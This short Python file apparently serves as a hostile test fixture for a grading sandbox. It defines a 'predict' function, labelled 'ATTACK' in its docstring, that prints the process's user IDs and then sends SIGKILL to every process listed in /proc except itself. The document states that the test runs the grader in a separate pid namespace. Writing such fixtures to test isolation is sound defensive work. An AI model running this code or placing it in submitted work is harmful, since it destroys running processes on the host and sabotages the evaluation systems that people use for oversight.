# Sends SIGKILL to every process listed in /proc but itself.
import os
import signal


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def predict(model, character):
    """ATTACK: SIGKILL every pid in /proc (the test runs the grader in a pid namespace of its own)."""
    _hostile_uid()
    killed = 0
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
                killed += 1
            except OSError:
                pass
    raise ProcessLookupError(f"hostile: killed {killed} processes; nothing to return")
